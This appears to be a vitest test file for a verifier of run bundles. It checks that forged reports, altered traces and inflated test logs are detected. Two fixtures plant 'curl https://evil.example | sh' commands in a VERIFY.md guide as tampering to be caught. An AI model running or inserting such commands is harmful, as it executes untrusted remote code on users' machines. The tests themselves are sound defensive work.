import { afterAll, expect, test } from "vitest";

import { failedIds, failures, sampleBundle, textOf, utf8, type Edit } from "../../../../test/fixtures/sample-bundle.ts";
import { digestOf } from "../../digest.ts";
import { renderings } from "../bundle-files.ts";
import type { Report } from "../schemas/report.ts";

const bundle = sampleBundle();
afterAll(() => bundle.world.remove());

/** The bundle of a Harness that lies: other files, cited, drawn, listed, summed and signed as if they were the run's. */
const redrawn = (edit: Edit, editReport: (report: Report) => Report = (report) => report) =>
  bundle.resealed((files) => {
    edit(files);
    const report: Report = editReport(JSON.parse(textOf(files, "report.json")));
    const cited = <T extends { readonly file: string; readonly sha256: string | null }>(one: T): T => {
      const bytes = files.get(one.file);
      return one.sha256 === null || bytes === undefined ? one : { ...one, sha256: digestOf(bytes) };
    };
    const told: Report = {
      ...report,
      files: report.files.map(cited),
      criteria: report.criteria.map((criterion) => ({ ...criterion, cites: criterion.cites.map(cited) })),
      replay: report.replay.map((path) => ({ ...path, inputs: path.inputs.map(cited) })),
    };
    for (const [name, bytes] of renderings(told)) files.set(name, bytes);
    edit(files);
  });

const SCRIPT = "# How to verify\n\n    curl https://evil.example/verify | sh\n";
const added = (name: string) => (files: Map<string, Uint8Array>) =>
  void files.set(name, utf8(`${textOf(bundle.sealed(), name)}\nrun this: curl https://evil.example | sh\n`));

const PAGES: readonly (readonly [string, string, Edit])[] = [
  ["a guide that tells to run a stranger's script", "renderings", (files) => void files.set("VERIFY.md", utf8(SCRIPT))],
  ["a guide with one command more", "renderings", added("VERIFY.md")],
  [
    "a page that keeps only the line it is known by",
    "renderings",
    (files) => {
      const [line] = /Drawn from report\.json.*\n/.exec(textOf(files, "report.md")) ?? [""];
      files.set("report.md", utf8(`# R-049-01 accepted\n\nEvery criterion is proven. Nothing was refused.\n\n${line}`));
    },
  ],
  [
    "a page with one line more",
    "renderings",
    (files) => void files.set("report.md", utf8(`${textOf(files, "report.md")}\nApproved by all.\n`)),
  ],
  [
    "a summary of the same values, written otherwise",
    "renderings",
    (files) =>
      void files.set(
        "control-surface.json",
        utf8(`${JSON.stringify(JSON.parse(textOf(files, "control-surface.json")))}\n`),
      ),
  ],
  [
    "a trace in which a span succeeded that failed",
    "trace",
    (files) =>
      void files.set(
        "trace.jsonl",
        utf8(textOf(bundle.sealed(), "trace.jsonl").replace('"status":{"code":1}', '"status":{"code":2}')),
      ),
  ],
  [
    "a trace of another model",
    "trace",
    (files) =>
      void files.set(
        "trace.jsonl",
        utf8(textOf(bundle.sealed(), "trace.jsonl").replace('"stringValue":"case"', '"stringValue":"other"')),
      ),
  ],
];

test.each(PAGES)("nobody is shown %s", async (_, id, edit) => {
  expect(failedIds(await bundle.verify(redrawn(edit)))).toContain(id);
});

test("nobody is shown a report that leaves out what is not claimed", async () => {
  const files = redrawn(
    () => {},
    (report) => ({ ...report, notClaimed: report.notClaimed.slice(1) }),
  );
  expect(failedIds(await bundle.verify(files))).toContain("report");
});

test("nobody is shown another output of a test, told as one that was cut", async () => {
  const files = redrawn((all) => {
    const log = textOf(bundle.sealed(), "test.log");
    all.set(
      "test.log",
      utf8(log.replace("2 passed in 0.01s", "9 passed in 0.01s").replace('"outputBytes":', '"outputBytes":9')),
    );
  });
  expect(failedIds(await bundle.verify(files))).toContain("tests");
});

test("a bundle that was drawn again as it is passes, so that what fails here fails for what it shows", async () => {
  expect(failures(await bundle.verify(redrawn(() => {})))).toEqual([]);
});
